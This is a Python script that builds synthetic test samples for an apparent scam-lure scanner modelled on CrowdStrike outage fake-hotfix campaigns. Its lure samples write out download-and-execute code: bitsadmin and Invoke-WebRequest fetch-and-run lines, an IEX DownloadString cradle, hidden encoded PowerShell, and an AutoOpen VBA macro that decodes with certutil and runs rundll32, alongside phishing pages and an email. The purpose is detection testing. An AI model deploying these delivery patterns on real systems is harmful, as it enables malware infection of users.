#!/usr/bin/env python3
"""Build the synthetic, harmless scamscan samples.

Every sample is plain text or bytes written by this script: no real malware,
no real executables, no network access. Rebuilding gives byte-identical files
(fixed timestamps, fixed ZipCrypto header bytes, gzip mtime 0), as long as the
zlib version is the same.

    python samples/build.py            # (re)write every sample
    python samples/build.py --check    # exit 1 if a rebuild would change a file

Layout (paths relative to the repo root):
    samples/clean/   benign files that must never be flagged
    samples/lures/   synthetic fake-update lures modelled on public reports
    samples/bad/     malformed or unscannable inputs (encrypted, truncated ...)
"""

from __future__ import annotations

import argparse
import gzip
import hashlib
import io
import struct
import sys
import zipfile
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent

# 2024-07-19 04:09 UTC: the time of the faulty channel file update.
ZIP_DATE = (2024, 7, 19, 4, 9, 0)
ZIP_PASSWORD = b"scamscan"  # password of samples/bad/encrypted.zip

MARK = "scamscan synthetic sample - harmless text, not malware"


# --------------------------------------------------------------------------
# helpers
# --------------------------------------------------------------------------

def crlf(text: str) -> bytes:
    """Windows line endings, as scripts and notes on Windows would have."""
    return text.replace("\r\n", "\n").replace("\n", "\r\n").encode("utf-8")


def lf(text: str) -> bytes:
    return text.encode("utf-8")


def make_zip(members: list[tuple[str, bytes]], deflate: bool = True) -> bytes:
    """A ZIP with fixed timestamps and attributes, so it is reproducible."""
    buf = io.BytesIO()
    method = zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=ZIP_DATE)
            info.compress_type = method
            info.create_system = 0          # "made by" MS-DOS, like most Windows zips
            info.external_attr = 0x20       # FILE_ATTRIBUTE_ARCHIVE
            zf.writestr(info, data, compress_type=method, compresslevel=9 if deflate else None)
    return buf.getvalue()


def make_gzip(name: str, data: bytes) -> bytes:
    buf = io.BytesIO()
    with gzip.GzipFile(filename=name, mode="wb", fileobj=buf, mtime=0, compresslevel=9) as gz:
        gz.write(data)
    return buf.getvalue()


# --- traditional PKWARE encryption ("ZipCrypto"), deterministic ------------
# `zip -P` seeds the 12-byte encryption header from the clock, so its output
# changes on every run. This writes the same format with a header derived from
# the member name, so the archive is reproducible. `unzip -P scamscan` opens it.

_CRC_TABLE: list[int] = []
for _i in range(256):
    _c = _i
    for _ in range(8):
        _c = (_c >> 1) ^ 0xEDB88320 if _c & 1 else _c >> 1
    _CRC_TABLE.append(_c)


def _crc_byte(crc: int, b: int) -> int:
    return (crc >> 8) ^ _CRC_TABLE[(crc ^ b) & 0xFF]


class _ZipCrypto:
    def __init__(self, password: bytes) -> None:
        self.k0, self.k1, self.k2 = 0x12345678, 0x23456789, 0x34567890
        for b in password:
            self._update(b)

    def _update(self, b: int) -> None:
        self.k0 = _crc_byte(self.k0, b)
        self.k1 = (self.k1 + (self.k0 & 0xFF)) & 0xFFFFFFFF
        self.k1 = (self.k1 * 134775813 + 1) & 0xFFFFFFFF
        self.k2 = _crc_byte(self.k2, self.k1 >> 24)

    def encrypt(self, data: bytes) -> bytes:
        out = bytearray()
        for p in data:
            t = (self.k2 | 2) & 0xFFFF
            out.append(p ^ (((t * (t ^ 1)) >> 8) & 0xFF))
            self._update(p)
        return bytes(out)


def _dos_datetime(dt: tuple[int, int, int, int, int, int]) -> tuple[int, int]:
    y, mo, d, h, mi, s = dt
    return (h << 11) | (mi << 5) | (s // 2), ((y - 1980) << 9) | (mo << 5) | d


def make_zipcrypto_zip(members: list[tuple[str, bytes]], password: bytes) -> bytes:
    """Stored members, each encrypted with ZipCrypto (general purpose flag bit 0)."""
    dos_time, dos_date = _dos_datetime(ZIP_DATE)
    out = bytearray()
    central = bytearray()
    for name, data in members:
        fname = name.encode("ascii")
        crc = zlib.crc32(data) & 0xFFFFFFFF
        header = hashlib.sha256(b"scamscan-zipcrypto:" + fname).digest()[:11] + bytes([crc >> 24])
        enc = _ZipCrypto(password).encrypt(header + data)
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x0001, 0, dos_time, dos_date,
                           crc, len(enc), len(data), len(fname), 0)
        out += fname + enc
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0x0001, 0,
                               dos_time, dos_date, crc, len(enc), len(data), len(fname),
                               0, 0, 0, 0, 0x20, offset)
        central += fname
    cd_offset = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members),
                       len(central), cd_offset, 0)
    return bytes(out)


# --------------------------------------------------------------------------
# sample contents
# --------------------------------------------------------------------------

CLEAN_NOTE = f"""Team note - week 30

- Move the Thursday stand-up to 10:00.
- The printer on floor 2 needs new toner; facilities has been told.
- Remember to file travel expenses before the end of the month.

({MARK})
"""

# Modelled on the public remediation steps (safe mode / WinRE, delete the channel
# file, reboot). Must stay clean: it deletes, it does not download or run anything.
CLEAN_GUIDANCE = f"""CrowdStrike Falcon content update for Windows hosts - workaround steps
=====================================================================

Applies to Windows hosts that crash (blue screen) after the Falcon channel file
update of 19 July 2024. Follow only guidance published by CrowdStrike on the
official support portal, https://supportportal.crowdstrike.com/ , or by your own
IT department. Never run "hotfix" tools sent by e-mail.

Workaround for an individual host:
 1. Boot Windows into Safe Mode or the Windows Recovery Environment (WinRE).
 2. Open %WINDIR%\\System32\\drivers\\CrowdStrike
    (usually C:\\Windows\\System32\\drivers\\CrowdStrike).
 3. Locate the file matching C-00000291*.sys and delete it.
 4. Boot the host normally.

BitLocker-protected hosts may ask for the recovery key before step 2.
Hosts that came online after 05:27 UTC on 19 July 2024 are not affected.

({MARK})
"""

CLEAN_GUIDANCE_ES = f"""Solucion temporal para equipos Windows con pantalla azul (CrowdStrike Falcon)

Siga solo las indicaciones publicadas en el portal oficial de soporte,
https://supportportal.crowdstrike.com/ , o las de su departamento de TI.

 1. Arranque Windows en Modo Seguro o en el Entorno de Recuperacion de Windows.
 2. Acceda al directorio C:\\Windows\\System32\\drivers\\CrowdStrike.
 3. Localice el archivo C-00000291*.sys y eliminelo.
 4. Inicie el equipo con normalidad.

No descargue ni ejecute "parches" recibidos por correo.

({MARK})
"""

CLEAN_BAT = f"""@echo off
rem Falcon channel file 291 workaround: delete only, as in the public guidance.
rem Run from Safe Mode or WinRE. ({MARK})
set CSDIR=%WINDIR%\\System32\\drivers\\CrowdStrike
if not exist "%CSDIR%" (
    echo CrowdStrike driver folder not found
    exit /b 1
)
del /f /q "%CSDIR%\\C-00000291*.sys"
echo Done. Restart the computer normally.
"""

CLEAN_PS1 = f"""# Falcon channel file 291 workaround: delete only, as in the public guidance.
# Run from Safe Mode or WinRE. ({MARK})
$csDir = Join-Path $env:WINDIR 'System32\\drivers\\CrowdStrike'
if (-not (Test-Path $csDir)) {{
    Write-Host 'CrowdStrike driver folder not found'
    exit 1
}}
Get-ChildItem -Path $csDir -Filter 'C-00000291*.sys' | Remove-Item -Force
Write-Host 'Done. Restart the computer normally.'
"""

CLEAN_HTML = f"""<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Summer picnic 2024</title>
</head>
<body>
<h1>Summer picnic 2024</h1>
<p>Thanks to everyone who came! The photos are ready.</p>
<ul>
  <li><a href="/files/picnic-photos.zip">Download all photos (ZIP, 40 MB)</a></li>
  <li><a href="/files/agenda.pdf">Agenda (PDF)</a></li>
</ul>
<p>Please update your contact details on the intranet before Friday.</p>
<!-- {MARK} -->
</body>
</html>
"""

CLEAN_ZIP_MEMBERS = [
    ("docs/readme.txt", lf(f"Project documents for the Q3 review.\n({MARK})\n")),
    ("docs/minutes.txt", lf("Minutes: budget approved; next review in October.\n")),
]

GZ_TEXT = f"""Server maintenance log

2024-07-20 02:00  patched web01, rebooted, all services up
2024-07-20 02:30  patched web02, rebooted, all services up
({MARK})
"""

# Spanish instructions in the style reported for crowdstrike-hotfix.zip (BBVA /
# LATAM Remcos campaign): urge staff to run Setup.exe to avoid connection errors.
HOTFIX_INSTRUCTIONS_ES = f"""INSTRUCCIONES - Actualización urgente de CrowdStrike (hotfix)

Estimado colaborador:

Debido a la falla de CrowdStrike Falcon que afecta a los equipos Windows, todos
los empleados y socios deben instalar esta actualización para evitar errores de
conexión con la intranet.

Pasos:
 1. Descomprima el archivo crowdstrike-hotfix.zip en el escritorio.
 2. Ejecute el archivo Setup.exe como administrador.
 3. Espere a que termine la instalación y reinicie el equipo.

No apague el equipo durante la instalación.
Soporte Técnico

({MARK})
"""

# Harmless stand-in for the loader: "MZ" and a comment, not a PE file.
SETUP_EXE_STANDIN = (
    b"MZ" + b"\x00" * 14
    + f"\r\n{MARK}: stand-in for Setup.exe in the hotfix lure; "
      "it is not a Windows executable and does nothing.\r\n".encode("ascii")
)

FIX_BAT = f"""@echo off
rem CrowdStrike BSOD automatic fix tool v2 ({MARK})
rem Deletes the faulty channel file, then "installs the hotfix".
set CSDIR=%WINDIR%\\System32\\drivers\\CrowdStrike
del /f /q "%CSDIR%\\C-00000291*.sys"
bitsadmin /transfer csfix /download /priority high https://crowdstrikefix.com/dl/falcon-hotfix.exe "%TEMP%\\falcon-hotfix.exe"
start "" "%TEMP%\\falcon-hotfix.exe"
echo Hotfix installed. Restart the computer.
"""

# _ENC is base64 of a harmless sentence, not of a command.
_ENC = "U2NhbXNjYW4gc3ludGhldGljIHNhbXBsZTogbm90IGEgcmVhbCBjb21tYW5kLg=="

FIX_PS1 = f"""# CrowdStrike Falcon BSOD recovery script ({MARK})
# Removes the faulty channel file and applies the "official hotfix".
$csDir = Join-Path $env:WINDIR 'System32\\drivers\\CrowdStrike'
Get-ChildItem -Path $csDir -Filter 'C-00000291*.sys' | Remove-Item -Force
$url = 'https://crowdstrike-helpdesk.com/hotfix/FalconFix.exe'
$out = Join-Path $env:TEMP 'FalconFix.exe'
Invoke-WebRequest -Uri $url -OutFile $out -UseBasicParsing
Start-Process -FilePath $out -WindowStyle Hidden
powershell.exe -NoProfile -WindowStyle Hidden -enc {_ENC}
"""

# Generic "fix" script: download cradle + encoded command, no brand, no deletion.
CRADLE_PS1 = f"""# Browser repair / update fix ({MARK})
# Paste into PowerShell to fix "your connection is not private" errors.
$p = 'http://198.51.100.23/update/fix.ps1'
IEX (New-Object Net.WebClient).DownloadString($p)
powershell -w hidden -enc {_ENC}
"""

# Exported VBA module in the style of the Daolpu "recovery manual" lure:
# AutoOpen, write base64 to %TEMP%, certutil -decode, run with Shell.
# The URL is a documentation address (RFC 5737) and the payload is text.
DAOLPU_VBA = f'''Attribute VB_Name = "NewMacros"
' New Recovery Tool to help with CrowdStrike issue impacting Windows
' ({MARK})
Option Explicit

Sub AutoOpen()
    RecoverSystem
End Sub

Sub Document_Open()
    RecoverSystem
End Sub

Private Sub RecoverSystem()
    Dim http As Object, fso As Object, f As Object
    Dim b64 As String, dll As String
    b64 = Environ("TEMP") & "\\mscorsvc.txt"
    dll = Environ("TEMP") & "\\mscorsvc.dll"
    Set http = CreateObject("MSXML2.XMLHTTP")
    http.Open "GET", "http://192.0.2.10/recovery/mscorsvc.txt", False
    http.Send
    Set fso = CreateObject("Scripting.FileSystemObject")
    Set f = fso.CreateTextFile(b64, True)
    f.Write http.responseText
    f.Close
    Shell "cmd.exe /c certutil -decode """ & b64 & """ """ & dll & """", vbHide
    Shell "rundll32.exe """ & dll & """,DllMain", vbHide
End Sub
'''

CS_UPDATE_PAGE = f"""<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>CrowdStrike Falcon - Emergency Hotfix</title>
<style>body{{font-family:Arial,sans-serif;background:#111;color:#eee}}
.btn{{background:#e01f26;color:#fff;padding:12px 24px;text-decoration:none}}</style>
</head>
<body>
<h1>CrowdStrike Falcon Sensor Hotfix</h1>
<p>Your Windows host is affected by the Falcon sensor update issue (BSOD).
Download and run the emergency hotfix now to restore your system.
This recovery tool removes the faulty channel file automatically.</p>
<p><a class="btn" href="/download/CrowdStrike-Falcon-Hotfix.zip" download="CrowdStrike-Falcon-Hotfix.zip">Download hotfix</a></p>
<p>Password for the archive: 2024</p>
<!-- {MARK} -->
</body>
</html>
"""

BROWSER_UPDATE_PAGE = f"""<!DOCTYPE html>
<html>
<head>
<meta charset="utf-8">
<title>Update required</title>
</head>
<body style="font-family:Segoe UI,Arial,sans-serif;text-align:center">
<h2>Your browser is out of date!</h2>
<p>Your version of Chrome is no longer supported. An update is required to
view this page. Please install the latest version.</p>
<a id="upd" href="/assets/Chrome.Update.js">Update Chrome</a>
<script>
  // auto-start the "update" download
  setTimeout(function () {{ window.location.href = "/assets/Chrome.Update.js"; }}, 3000);
</script>
<!-- {MARK} -->
</body>
</html>
"""

# Lure e-mail whose link is a defanged known-bad domain from rules/iocs/domains.csv.
SUPPORT_EML = f"""From: "CrowdStrike Support" <support@crowdstrike.com.vc>
To: it-staff@example.com
Subject: URGENT: Falcon sensor BSOD fix - action required
Date: Sat, 20 Jul 2024 09:15:00 +0000
Message-ID: <20240720091500.4711@example.net>
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: 7bit

Dear customer,

To recover hosts affected by the Falcon content update, download the fix tool
from our recovery portal:

    hxxps://crowdstrike-bsod[.]com/recovery/fix-tool

and run it on every affected machine. This is required to restore support.

CrowdStrike Support Team

({MARK})
"""

TRUNC_ZIP_MEMBERS = [
    ("report/part1.txt", lf(("Quarterly report, part one. " * 40) + f"\n({MARK})\n")),
    ("report/part2.txt", lf(("Quarterly report, part two. " * 40) + "\n")),
]

ENCRYPTED_MEMBERS = [
    ("readme.txt", lf(f"This archive is password protected.\n({MARK})\n")),
]


# --------------------------------------------------------------------------
# build
# --------------------------------------------------------------------------

def build() -> dict[str, bytes]:
    s: dict[str, bytes] = {}

    # clean
    s["clean/note.txt"] = lf(CLEAN_NOTE)
    s["clean/crowdstrike_remediation_guidance.txt"] = lf(CLEAN_GUIDANCE)
    s["clean/guia_remediacion_es.txt"] = lf(CLEAN_GUIDANCE_ES)
    s["clean/remediation_delete_only.bat"] = crlf(CLEAN_BAT)
    s["clean/remediation_delete_only.ps1"] = crlf(CLEAN_PS1)
    s["clean/page.html"] = lf(CLEAN_HTML)
    s["clean/docs.zip"] = make_zip(CLEAN_ZIP_MEMBERS)
    s["clean/maintenance_log.txt.gz"] = make_gzip("maintenance_log.txt", lf(GZ_TEXT))

    # lures
    instructions = crlf(HOTFIX_INSTRUCTIONS_ES)
    hotfix_zip = make_zip([("instrucciones.txt", instructions), ("Setup.exe", SETUP_EXE_STANDIN)])
    s["lures/crowdstrike-hotfix.zip"] = hotfix_zip
    s["lures/crowdstrike_hotfix_es/instrucciones.txt"] = instructions
    s["lures/crowdstrike_fix.bat"] = crlf(FIX_BAT)
    s["lures/crowdstrike_fix.ps1"] = crlf(FIX_PS1)
    s["lures/browser_fix_cradle.ps1"] = crlf(CRADLE_PS1)
    s["lures/daolpu_recovery_macro.bas"] = crlf(DAOLPU_VBA)
    s["lures/crowdstrike_update_page.html"] = lf(CS_UPDATE_PAGE)
    s["lures/browser_update.html"] = lf(BROWSER_UPDATE_PAGE)
    s["lures/support_notice.eml"] = crlf(SUPPORT_EML)
    # hotfix zip inside another zip inside a .gz: .gz > zip > zip > members
    bundle = make_zip([("crowdstrike-hotfix.zip", hotfix_zip),
                       ("LEEME.txt", lf("Paquete de recuperacion.\n"))])
    s["lures/nested/hotfix_bundle.zip.gz"] = make_gzip("hotfix_bundle.zip", bundle)
    # lure three archive levels below the file given: deep.zip > l2.zip > l3.zip > fix.bat
    level3 = make_zip([("crowdstrike_fix.bat", crlf(FIX_BAT))])
    level2 = make_zip([("level3.zip", level3)])
    s["lures/nested/deep_lure.zip"] = make_zip([("level2.zip", level2)])

    # bad
    s["bad/empty.bin"] = b""
    s["bad/encrypted.zip"] = make_zipcrypto_zip(ENCRYPTED_MEMBERS, ZIP_PASSWORD)
    full = make_zip(TRUNC_ZIP_MEMBERS, deflate=False)
    s["bad/truncated.zip"] = full[: len(full) // 2]
    good_gz = make_gzip("notes.txt", lf(("Corrupt gzip sample. " * 30) + f"\n({MARK})\n"))
    # keep the header and the first deflate bytes, then garbage: a corrupt stream
    s["bad/corrupt.gz"] = good_gz[:40] + b"\xff\xfe\xfd\xfc" * 8
    return s


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--check", action="store_true",
                    help="do not write; exit 1 if any sample differs from a fresh build")
    args = ap.parse_args(argv)
    samples = build()
    changed = []
    for rel, data in sorted(samples.items()):
        path = HERE / rel
        old = path.read_bytes() if path.exists() else None
        if old == data:
            continue
        changed.append(rel)
        if not args.check:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
    for rel in changed:
        print(("differs: " if args.check else "wrote: ") + "samples/" + rel)
    if args.check:
        return 1 if changed else 0
    print(f"{len(samples)} samples, {len(changed)} written")
    return 0


if __name__ == "__main__":
    sys.exit(main())
